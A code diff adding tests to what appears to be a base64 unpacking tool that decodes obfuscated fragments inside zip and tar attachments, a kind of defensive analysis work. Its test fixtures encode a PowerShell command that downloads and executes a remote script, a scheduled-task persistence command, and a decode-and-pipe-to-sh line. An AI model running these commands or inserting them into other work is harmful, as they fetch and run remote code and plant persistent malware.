@@ -207,6 +207,65 @@ test("archives: zip members (several, or one), gzip, tar, tar.gz — each member
   assert.deepEqual(nested.items.map((i) => i.decodedString?.slice(0, 20)), ["run dGhlIGhpZGRlbiBj", "the hidden command l"]);
 });
 
+test("a fragment repeated across zip and tar members is recorded once per level, with its occurrences", () => {
+  // Two second-level fragments: S in three members (two zip, one tar), T in one zip and one tar member.
+  const S = b64("powershell -w hidden -c iwr http://198.51.100.23/s2.ps1 | iex");
+  const T = b64("schtasks /create /tn upd /tr c:\\users\\public\\u.exe /sc minute");
+  const zip = zipSync({ "notes.txt": strToU8(`step one ${S} end`), "todo.txt": strToU8(`step two ${S} ${T}`), "readme.txt": strToU8("no payload in this member") });
+  const tape = tar({ "run.sh": `#!/bin/sh\necho ${S} | base64 -d | sh\n`, "cron.txt": `*/5 * * * * ${T}` });
+  const message = `attachment1=${b64(zip)} attachment2=${b64(tape)}`;
+  const r = base64.unpack(message);
+  const decoded = (text: string) => Buffer.from(text, "base64").toString();
+  // Level 1: the two archives' five members; level 2: S and T once each.
+  assert.deepEqual(
+    r.items.map((i) => [i.reference, i.fileName, i.occurrences, i.depth]),
+    [
+      ["2.1.1", "notes.txt", 1, 2],
+      ["2.1.2", "todo.txt", 1, 2],
+      ["2.1.3", "readme.txt", 1, 2],
+      ["2.2.1", "run.sh", 1, 2],
+      ["2.2.2", "cron.txt", 1, 2],
+      ["2.1", "unknown", 3, 2],
+      ["2.2", "unknown", 2, 2],
+    ],
+  );
+  assert.equal(r.items[5].decodedString, decoded(S));
+  assert.equal(r.items[6].decodedString, decoded(T));
+  // Nothing lost: every occurrence is decoded in the rewritten text, with the same tag.
+  const tagS = `<decoded type='string' name='[None]' index='1' depth='2'>${decoded(S)}</decoded>`;
+  const tagT = `<decoded type='string' name='[None]' index='2' depth='2'>${decoded(T)}</decoded>`;
+  assert.equal(r.fullDecodedString.split(tagS).length - 1, 3);
+  assert.equal(r.fullDecodedString.split(tagT).length - 1, 2);
+  assert.ok(!r.fullDecodedString.includes(S) && !r.fullDecodedString.includes(T));
+  // The records frame and unpackDf carry the count as a column.
+  assert.deepEqual(r.records.getColumn("occurrences").toArray(), [1, 1, 1, 1, 1, 3, 2]);
+  const df = base64.unpackDf(pl.DataFrame({ msg: ["nothing", message] }), { column: "msg" });
+  assert.equal(df.height, 7);
+  assert.equal(df.getColumn("occurrences").dtype.variant, "UInt32");
+  assert.deepEqual(df.filter(pl.col("occurrences").gt(1)).select("reference", "occurrences", "src_index").toRecords(), [
+    { reference: "2.1", occurrences: 3, src_index: 1 },
+    { reference: "2.2", occurrences: 2, src_index: 1 },
+  ]);
+  // The same fragment at another level is recorded again, at that level.
+  const both = base64.unpack(`${S} then ${b64(zip)}`);
+  assert.deepEqual(both.items.filter((i) => i.originalString === S).map((i) => [i.depth, i.occurrences]), [[1, 1], [2, 2]]);
+});
+
+test("a fragment repeated in one string: one item, every occurrence decoded, each charged to maxDecodedBytes", () => {
+  const run = b64("a command line payload of exactly sixty-four bytes, used 5 times");
+  const line = `a ${run} b ${run} c ${run}`;
+  const r = base64.unpack(line);
+  assert.equal(r.items.length, 1);
+  assert.equal(r.items[0].occurrences, 3);
+  assert.equal(r.fullDecodedString.split("<decoded type='string' name='[None]' index='1' depth='1'>").length - 1, 3);
+  // A budget for two copies: the third occurrence is left encoded, in a limit tag, and the limit is named.
+  const tight = base64.unpack(line, { maxDecodedBytes: 150 });
+  assert.equal(tight.items.length, 1);
+  assert.equal(tight.items[0].occurrences, 2);
+  assert.ok(tight.fullDecodedString.endsWith(` c <decoded type='limit' reason='maxDecodedBytes' index='1' depth='1'>${run}</decoded>`));
+  assert.ok(tight.limits.some((l) => l.startsWith("maxDecodedBytes")));
+});
+
 test("corrupt and truncated archives give what could be read and a note — never an exception", () => {
   const zip = zipSync({ "a.txt": strToU8("first member, complete"), "b.txt": strToU8("second member ".repeat(50)) }, { level: 9 });
   const cut = zip.slice(0, zip.length - 60); // central directory gone
